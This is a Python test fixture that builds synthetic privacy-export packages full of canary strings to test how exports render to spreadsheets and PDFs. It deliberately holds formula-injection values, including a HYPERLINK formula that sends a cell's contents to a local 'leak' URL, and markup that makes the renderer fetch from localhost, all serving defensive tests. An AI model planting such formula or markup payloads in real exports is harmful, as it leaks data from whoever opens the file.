"""Synthetic export packages (``confide.subject-export/1``) for the render tests and bench/subject_render.py.

``canary_package(port)`` holds a unique canary in every section, every transcript and the facts,
with non-ASCII text, reportlab markup (an ``<img>`` pointing at ``127.0.0.1:<port>``) and
formula-looking values; ``CANARIES`` lists the plain ones, ``FORMULAS`` the formula-looking ones.
``big_package(messages)`` is one person with that many messages, chat-like.
"""

from __future__ import annotations

import random
from typing import Any

GENERATED = "2026-12-02T01:00:00+00:00"

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"CANARY-hyperlink")',
    "+1 CANARY-plus",
    "-2 CANARY-minus",
    "@SUM(CANARY-at)",
    "\t=1 CANARY-tab",
    "\r=1 CANARY-cr",
    "  =2+3 CANARY-spaced",
]

CANARIES = [
    "CANARY-name-Zoë-Straße",
    "canary.email.7f3a@example.test",
    "CANARY-phone-+49-30-555-0199",
    "CANARY-answer-中文-回答",
    "CANARY-emoji-😀-smile",
    "CANARY-trail-https://shop.example/p/7f3a",
    "CANARY-offline-Grüße aus Köln",
    "CANARY-prospect-Ελληνικά",
    "CANARY-consent-v7f3a",
    "CANARY-rating-très bien",
    "CANARY-message-visitor-ß-中文",
    "CANARY-message-operator-Ünïcødé",
    "CANARY-site-shop.example",
    "CANARY-operator-name-Åsa",
    "CANARY-controller-Acme GmbH",
    "CANARY-purpose-support chat",
    "CANARY-recipient-mail provider",
    "CANARY-retention-24 months",
    "CANARY-source-the visitor",
    "CANARY-right-write to privacy@acme.test",
]


def markup_values(port: int) -> list[str]:
    return [
        f'<img src="http://127.0.0.1:{port}/canary.png"/> CANARY-img',
        '<font name="Courier" color="red">CANARY-font</font>',
        "<b>CANARY-bold</b> &amp; &lt;CANARY-entity&gt; &nbsp;",
        f'<a href="http://127.0.0.1:{port}/link">CANARY-link</a>',
    ]


def _facts() -> dict[str, Any]:
    return {
        "controller": {"name": "CANARY-controller-Acme GmbH", "contact": "privacy@acme.test"},
        "purposes": [
            {
                "purpose": "CANARY-purpose-support chat",
                "lawful_basis": "contract",
                "categories": ["content", "contact"],
            },
            {"purpose": "analytics", "lawful_basis": "consent", "categories": ["activity"]},
        ],
        "categories": ["identity", "contact", "content", "activity"],
        "recipients": ["CANARY-recipient-mail provider"],
        "retention": [{"category": "messages", "period": "CANARY-retention-24 months"}],
        "source": "CANARY-source-the visitor",
        "rights": [
            {"right": "access", "how": "CANARY-right-write to privacy@acme.test"},
            {"right": "erasure", "how": "Use the widget's Privacy view."},
        ],
    }


def canary_package(port: int = 9) -> dict[str, Any]:
    marks = markup_values(port)
    visitor = "v-7f3a9c"
    conversation = "c-55e1"
    return {
        "schema": "confide.subject-export/1",
        "generated_at": GENERATED,
        "workspace": {"id": "w-01", "name": "Acme Shop"},
        "person": {"visitor_ids": [visitor], "searched_by": "email"},
        "facts": _facts(),
        "sections": [
            {
                "key": "visitors",
                "title": "Visitor profile",
                "columns": ["id", "name", "email", "phone", "answer", "note", "rating", "score", "verified"],
                "rows": [
                    {
                        "id": visitor,
                        "name": "CANARY-name-Zoë-Straße",
                        "email": "canary.email.7f3a@example.test",
                        "phone": "CANARY-phone-+49-30-555-0199",
                        "answer": "CANARY-answer-中文-回答",
                        "note": marks[0],
                        "rating": 5,
                        "score": 0.75,
                        "verified": True,
                    }
                ],
            },
            {
                "key": "page_views",
                "title": "Visitor activity",
                "columns": ["at", "url", "title"],
                "rows": [
                    {
                        "at": "2026-11-30T10:00:00+00:00",
                        "url": "CANARY-trail-https://shop.example/p/7f3a",
                        "title": marks[1],
                    },
                    {"at": "2026-11-30T10:01:00+00:00", "url": FORMULAS[0], "title": "CANARY-emoji-😀-smile"},
                ],
            },
            {
                "key": "offline_requests",
                "title": "Offline requests",
                "columns": ["id", "text", "extra"],
                "rows": [{"id": "o-1", "text": "CANARY-offline-Grüße aus Köln", "extra": FORMULAS[1]}],
            },
            {
                "key": "prospects",
                "title": "Prospects",
                "columns": ["id", "company", "notes"],
                "rows": [
                    {"id": "p-1", "company": "CANARY-prospect-Ελληνικά", "notes": FORMULAS[2]},
                    {"id": "p-2", "company": FORMULAS[3], "notes": FORMULAS[6]},
                ],
            },
            {
                "key": "consent_records",
                "title": "Consent records",
                "columns": ["purpose", "granted", "notice"],
                "rows": [{"purpose": "analytics", "granted": False, "notice": "CANARY-consent-v7f3a"}],
            },
            {
                "key": "ratings",
                "title": "Ratings",
                "columns": ["stars", "comment"],
                "rows": [{"stars": 4, "comment": "CANARY-rating-très bien"}, {"stars": None, "comment": marks[2]}],
            },
            {
                "key": "messages",
                "title": "Messages",
                "columns": ["id", "conversation", "sent_at", "sender", "text"],
                "rows": [
                    {
                        "id": "m-1",
                        "conversation": conversation,
                        "sent_at": "2026-11-30T10:02:00+00:00",
                        "sender": "visitor",
                        "text": "CANARY-message-visitor-ß-中文",
                    },
                    {
                        "id": "m-2",
                        "conversation": conversation,
                        "sent_at": "2026-11-30T10:03:00+00:00",
                        "sender": "operator",
                        "text": "CANARY-message-operator-Ünïcødé",
                    },
                ],
            },
            {"key": "files", "title": "Files", "columns": ["name", "size"], "rows": []},
        ],
        "transcripts": [
            {
                "conversation_id": conversation,
                "site": "CANARY-site-shop.example",
                "started_at": "2026-11-30T10:02:00+00:00",
                "closed_at": None,
                "messages": [
                    {
                        "at": "2026-11-30T10:02:00+00:00",
                        "sender": "visitor",
                        "name": "CANARY-name-Zoë-Straße",
                        "text": "CANARY-message-visitor-ß-中文",
                    },
                    {
                        "at": "2026-11-30T10:03:00+00:00",
                        "sender": "operator",
                        "name": "CANARY-operator-name-Åsa",
                        "text": "CANARY-message-operator-Ünïcødé",
                    },
                    {"at": "2026-11-30T10:04:00+00:00", "sender": "visitor", "name": None, "text": FORMULAS[4]},
                    {"at": "2026-11-30T10:05:00+00:00", "sender": "visitor", "name": None, "text": FORMULAS[5]},
                    {"at": "2026-11-30T10:06:00+00:00", "sender": "visitor", "name": None, "text": marks[3]},
                    {"at": "2026-11-30T10:07:00+00:00", "sender": "system", "name": None, "text": "Chat closed"},
                ],
            },
        ],
    }


_WORDS = [
    "hello",
    "I",
    "have",
    "a",
    "question",
    "about",
    "my",
    "order",
    "the",
    "parcel",
    "has",
    "not",
    "arrived",
    "yet",
    "could",
    "you",
    "please",
    "check",
    "the",
    "delivery",
    "status",
    "thanks",
    "a",
    "lot",
    "it",
    "is",
    "the",
    "blue",
    "one",
    "size",
    "M",
    "and",
    "I",
    "would",
    "like",
    "to",
    "change",
    "the",
    "address",
    "to",
    "my",
    "office",
    "instead",
    "Grüße",
    "中文",
    "très",
    "bien",
    "😀",
]


def big_package(messages: int = 1000, conversations: int = 10, seed: int = 7) -> dict[str, Any]:
    """One person with ``messages`` chat-like messages over ``conversations`` conversations."""
    rnd = random.Random(seed)
    package = canary_package()
    transcripts = []
    rows = []
    per = max(1, messages // conversations)
    n = 0
    for c in range(conversations):
        lines = []
        for i in range(per if c < conversations - 1 else messages - per * (conversations - 1)):
            n += 1
            sender = "visitor" if i % 2 == 0 else "operator"
            text = " ".join(rnd.choice(_WORDS) for _ in range(rnd.randint(3, 45)))
            at = f"2026-11-{1 + c:02d}T10:{i // 60 % 60:02d}:{i % 60:02d}+00:00"
            lines.append({"at": at, "sender": sender, "name": "Åsa" if sender == "operator" else None, "text": text})
            rows.append({"id": f"m-{n}", "conversation": f"c-{c}", "sent_at": at, "sender": sender, "text": text})
        transcripts.append(
            {
                "conversation_id": f"c-{c}",
                "site": "shop.example",
                "started_at": f"2026-11-{1 + c:02d}T10:00:00+00:00",
                "closed_at": f"2026-11-{1 + c:02d}T11:00:00+00:00",
                "messages": lines,
            }
        )
    for section in package["sections"]:
        if section["key"] == "messages":
            section["rows"] = rows
    package["transcripts"] = transcripts
    return package
